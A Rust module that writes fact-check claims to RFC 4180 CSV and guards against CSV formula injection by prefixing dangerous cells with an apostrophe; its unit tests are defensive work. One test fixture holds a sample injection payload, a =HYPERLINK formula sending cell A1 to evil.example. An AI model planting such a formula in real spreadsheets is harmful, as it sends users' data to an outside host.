//! CSV, one row per claim, RFC 4180: fields quoted when they hold a comma, quote or line
//! break, quotes doubled, CRLF between records. LibreOffice and Excel open it as it is.
//!
//! Article text is untrusted and spreadsheets run a cell that starts with `=`, `+`, `-`, `@`
//! as a formula (`=HYPERLINK(…)` can send data out). Such a cell gets a leading apostrophe,
//! which spreadsheets show as plain text (OWASP's advice for CSV injection).

use super::{source_line, Check};

pub const HEADER: [&str; 7] = [
    "id", "text", "status", "note", "sources", "position", "updated",
];

pub fn write(check: &Check, bom: bool) -> String {
    let mut out = String::new();
    if bom {
        out.push('\u{feff}');
    }
    row(&mut out, HEADER.iter().map(|s| s.to_string()));
    for c in check.claims {
        let st = check.status(&c.status);
        let sources: Vec<String> = c
            .sources
            .iter()
            .map(|s| match source_line(s) {
                (label, Some(url)) if label != url => format!("{label} <{url}>"),
                (label, _) => label,
            })
            .collect();
        row(
            &mut out,
            [
                c.id.clone(),
                c.anchor.quote.clone(),
                st.label,
                c.note.clone(),
                sources.join("\n"),
                format!("{}-{}", c.anchor.start, c.anchor.end),
                c.updated.clone(),
            ]
            .into_iter(),
        );
    }
    out
}

fn row(out: &mut String, fields: impl Iterator<Item = String>) {
    for (i, f) in fields.enumerate() {
        if i > 0 {
            out.push(',');
        }
        // Line breaks inside a field become CRLF too, as spreadsheets write them.
        let f = defuse_formula(f);
        let f = f
            .replace("\r\n", "\n")
            .replace('\r', "\n")
            .replace('\n', "\r\n");
        if f.contains([',', '"', '\r', '\n']) || f.starts_with(' ') || f.ends_with(' ') {
            out.push('"');
            out.push_str(&f.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&f);
        }
    }
    out.push_str("\r\n");
}

fn defuse_formula(f: String) -> String {
    if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{f}")
    } else {
        f
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::document::Document;
    use crate::export::fixture::{claim, text_document, CheckFixture};
    use crate::model::ClaimRecord;

    fn csv(doc: &Document, claims: &[ClaimRecord], bom: bool) -> String {
        let f = CheckFixture {
            claims: claims.to_vec(),
            ..CheckFixture::new(doc.clone())
        };
        write(&f.check(), bom)
    }

    #[test]
    fn quotes_fields_and_starts_with_a_bom_when_asked() {
        let doc = text_document("He said \"yes, 3,000\" today. Plain one.");
        let mut c1 = claim(&doc, "c1", "He said \"yes, 3,000\" today.", "verified");
        c1.note = "line one\nline two".into();
        let claims = vec![c1, claim(&doc, "c2", "Plain one.", "unchecked")];
        let out = csv(&doc, &claims, true);
        assert!(out.starts_with("\u{feff}id,text,status,note,sources,position,updated\r\n"));
        assert!(out.contains(
            "c1,\"He said \"\"yes, 3,000\"\" today.\",Verified,\"line one\r\nline two\",,0-27,"
        ));
        assert!(out.contains("\r\nc2,Plain one.,Unchecked,,,28-38,2024-11-27T10:00:00Z\r\n"));
        assert!(!csv(&doc, &claims, false).starts_with('\u{feff}'));
    }

    #[test]
    fn a_cell_that_would_run_as_a_formula_is_kept_as_text() {
        let doc =
            text_document("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") and more. Fine text.");
        let mut c1 = claim(
            &doc,
            "c1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") and more.",
            "verified",
        );
        c1.note = "@SUM(1+1)".into();
        let mut c2 = claim(&doc, "c2", "Fine text.", "unchecked");
        c2.note = "-2+3 is what the minister said".into();
        let claims = vec![c1, c2];
        let out = csv(&doc, &claims, false);
        assert!(out.contains(
            "c1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\") and more.\",Verified,'@SUM(1+1),"
        ), "{out}");
        assert!(
            out.contains("c2,Fine text.,Unchecked,'-2+3 is what the minister said,"),
            "{out}"
        );
        for line in out.lines() {
            for cell in line.split(',') {
                assert!(
                    !cell
                        .trim_start_matches('"')
                        .starts_with(['=', '+', '-', '@']),
                    "{cell}"
                );
            }
        }
    }
}
